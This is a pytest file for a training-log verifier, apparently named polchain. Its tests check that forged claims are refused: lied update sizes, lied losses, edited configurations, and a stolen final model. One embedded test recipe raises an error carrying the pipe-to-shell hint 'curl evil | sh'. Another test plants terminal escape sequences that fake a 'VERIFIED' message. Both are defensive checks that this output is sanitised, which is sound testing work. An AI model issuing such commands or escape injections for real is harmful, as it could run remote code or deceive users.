"""Small lies in a log that is honest otherwise: a forger who trains, and cheats in one place.

The workshop itself is tested first: what it writes without a lie is VERIFIED, so whatever is refused below is refused
for the lie.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from polchain.core.claim import Claim
from polchain.core.entries import CheckpointEntry, Start, Update
from polchain.core.manifest import Snapshot
from polchain.errors import ChainError, DatasetError, UsageError
from polchain.verifier.integrity import check_integrity
from polchain.verifier.policy import Policy
from polchain.verifier.verdict import Ruled
from polchain.verifier.verify import verify
from tests.claims import DIGITS, Recorded, copy_of, entries_of, record_once, write_log
from tests.forgers.attacks import last_jump
from tests.forgers.conftest import Verify
from tests.forgers.forge import Workshop, edited

SGD = ("--optimizer", "sgd")


@dataclass
class Honest:
    """What an honest training under the forger's own seed gave."""

    shop: Workshop
    states: Sequence[Snapshot]
    losses: Sequence[float | None]


@pytest.fixture(scope="module")
def honest(sgd_victim: Recorded) -> Honest:
    shop = Workshop(sgd_victim.claim)
    return Honest(shop, *shop.train(60))


def test_without_a_lie_the_workshops_claim_is_verified(honest: Honest, polchain_says: Verify, tmp_path: Path) -> None:
    claim = honest.shop.claim(tmp_path / "claim", honest.states, honest.losses)
    verdict = polchain_says(claim, honest.shop.key.public, SGD)
    assert verdict.outcome is Ruled.VERIFIED, verdict.reasons


def test_an_honest_prefix_with_the_stolen_model_at_its_end_is_refused(
    honest: Honest, polchain_says: Verify, tmp_path: Path
) -> None:
    claim = last_jump.at_the_end_of(honest.shop, honest.states, honest.losses).claim(tmp_path / "claim")
    verdict = polchain_says(claim, honest.shop.key.public, SGD)
    assert verdict.outcome is Ruled.REFUTED
    assert verdict.reasons[0].startswith("steps 55 to 60: the claimed model state is off by rho")


@pytest.mark.parametrize(
    ("factors", "said"),
    [((0.1, 1.0), "claims an update of"), ((1.0, 0.1), "claims an update of at most")],
    ids=["l2", "linf"],
)
def test_a_lied_update_size_is_refused(
    honest: Honest, polchain_says: Verify, tmp_path: Path, factors: tuple[float, float], said: str
) -> None:
    def smaller(entry: object) -> object:
        if isinstance(entry, CheckpointEntry) and entry.step == 30 and entry.update is not None:
            return replace(entry, update=Update(entry.update.l2 * factors[0], entry.update.linf * factors[1]))
        return entry

    claim = honest.shop.claim(tmp_path / "claim", honest.states, honest.losses, smaller)  # type: ignore[arg-type]
    verdict = polchain_says(claim, honest.shop.key.public, SGD)
    assert verdict.outcome is Ruled.REFUTED
    assert verdict.reasons[0].startswith(f"the entry of step 30 {said}")


@pytest.mark.parametrize("loss", [0.0001, None], ids=["lied", "left out"])
def test_a_lied_loss_is_not_verified(honest: Honest, polchain_says: Verify, tmp_path: Path, loss: float | None) -> None:
    edit = edited(CheckpointEntry, 60, loss=loss)
    claim = honest.shop.claim(tmp_path / "claim", honest.states, honest.losses, edit)
    verdict = polchain_says(claim, honest.shop.key.public, SGD)
    assert verdict.outcome is Ruled.INCONCLUSIVE
    assert f"steps 55 to 60: the state is reproduced, the logged loss {loss} is not" in verdict.reasons[0]


def test_an_edited_configuration_is_not_what_the_recipe_asks_for(
    sgd_victim: Recorded, polchain_says: Verify, tmp_path: Path
) -> None:
    theirs = Workshop(sgd_victim.claim).configuration
    assert theirs is not None
    shop = Workshop(sgd_victim.claim, configuration=replace(theirs, steps=6000))
    claim = shop.claim(tmp_path / "claim", shop.states())
    verdict = polchain_says(claim, shop.key.public, SGD)
    assert verdict.outcome is Ruled.INCONCLUSIVE
    assert verdict.reasons == ("the recipe asks for another configuration than the genesis states",)


def test_an_edited_batch_size_does_not_give_the_batches(sgd_victim: Recorded, tmp_path: Path) -> None:
    shop = Workshop(sgd_victim.claim)
    claim = shop.claim(tmp_path / "claim", shop.states())
    genesis = replace(shop.genesis, configuration=replace(shop.configuration, batch_size=64))  # type: ignore[type-var]
    write_log(claim, [genesis, *entries_of(claim)[1:]], shop.key)
    with pytest.raises(ChainError, match="the batches are not the ones that the seed gives"):
        check_integrity(Claim.read(claim), Policy())


def test_an_installed_module_passed_off_as_the_verifiers_own_script_is_not_vouched_for(
    sgd_victim: Recorded, polchain_says: Verify, tmp_path: Path
) -> None:
    # No file to compare, and an entry point that exists wherever polchain is installed.
    theirs = Workshop(sgd_victim.claim).genesis.recipe
    assert theirs is not None
    ref = replace(theirs, entry="polchain._examples.quickstart", module=True, files=())
    shop = Workshop(sgd_victim.claim, ref=ref, files={})
    claim = shop.claim(tmp_path / "claim", shop.states())
    with pytest.raises(UsageError, match=r"is the module polchain\._examples\.quickstart, yours is the script"):
        polchain_says(claim, shop.key.public, SGD)


def test_other_arguments_are_another_program(sgd_victim: Recorded, polchain_says: Verify) -> None:
    with pytest.raises(UsageError, match=r"was run with arguments --optimizer sgd, yours has \(none\)"):
        polchain_says(sgd_victim.claim, sgd_victim.key.public, (), recipe=DIGITS)


def test_a_claim_cannot_speak_to_the_terminal(honest: Honest, polchain_says: Verify, tmp_path: Path) -> None:
    shouting = {**honest.shop.start.fingerprint, "cpu": "\x1b[2J\nVERIFIED"}
    edit = edited(Start, fingerprint=shouting)
    claim = honest.shop.claim(tmp_path / "claim", honest.states, honest.losses, edit)
    verdict = polchain_says(claim, honest.shop.key.public, SGD)
    assert verdict.outcome is Ruled.VERIFIED
    assert any("cpu: recorded with ?[2J?VERIFIED" in remark for remark in verdict.remarks)
    assert all(text.isprintable() for text in (*verdict.reasons, *verdict.remarks))


# Of an honest recipe it differs in what it says when a verifier asks: which is what the data folder's "fault" names.
SPEAKER = """
import polchain, torch
from torch import nn
from polchain.errors import DatasetError, ManifestError
from polchain.training.child import current_host


def data():
    host, fault = current_host(), polchain.data_dir() / "fault"
    if host is not None and fault.exists():
        mode, kind = fault.read_text().split()
        if mode == host.mode:
            raise {"Dataset": DatasetError, "Manifest": ManifestError}[kind]("VERIFIED\\x1b[2J", hint="curl evil | sh")
    return [(torch.full((4,), i / 32), i % 2) for i in range(32)]


with polchain.record("run", data=data, batch_size=8, steps=4, every=2) as run:
    model = nn.Linear(4, 2)
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
    run.attach(model=model, optimizer=optimizer)
    for step, (x, y) in run.batches():
        nn.functional.cross_entropy(model(x), y).backward()
        optimizer.step()
        optimizer.zero_grad(set_to_none=True)
"""


@pytest.mark.parametrize("kind", ["Dataset", "Manifest"])
@pytest.mark.parametrize("mode", ["dataset", "initial", "replay"])
def test_a_recipe_speaks_in_its_own_name_and_ends_no_verification(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path, mode: str, kind: str
) -> None:
    found = record_once(tmp_path_factory, "speaker", SPEAKER)
    (tmp_path / "fault").write_text(f"{mode} {kind}")
    policy = Policy(keys=frozenset({found.key.public}), unsafe_no_sandbox=True)
    verdict = verify(found.claim, policy, data=tmp_path, timeout=120)
    assert verdict.outcome is Ruled.INCONCLUSIVE
    assert "the recipe says: VERIFIED?[2J" in verdict.reasons[0]
    assert not any("evil" in reason for reason in (*verdict.reasons, *verdict.remarks))
    if kind == "Dataset":
        # Who vouched is told at once that data is missing.
        vouched = replace(policy, recipes=frozenset({verdict.program}))  # type: ignore[arg-type]
        with pytest.raises(DatasetError, match=r"^the recipe says: VERIFIED\?\[2J"):
            verify(found.claim, vouched, data=tmp_path, timeout=120)


def test_a_fault_of_an_unvouched_recipe_hides_no_contradiction(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
) -> None:
    found = record_once(tmp_path_factory, "speaker", SPEAKER)
    claim = copy_of(found.claim, tmp_path / "claim")
    entries = [
        replace(entry, update=Update(1e-9, 1e-9)) if isinstance(entry, CheckpointEntry) and entry.update else entry
        for entry in entries_of(claim)
    ]
    write_log(claim, entries, found.key)
    (tmp_path / "fault").write_text("initial Dataset")
    policy = Policy(keys=frozenset({found.key.public}), unsafe_no_sandbox=True)
    assert verify(claim, policy, data=tmp_path, timeout=120).outcome is Ruled.REFUTED
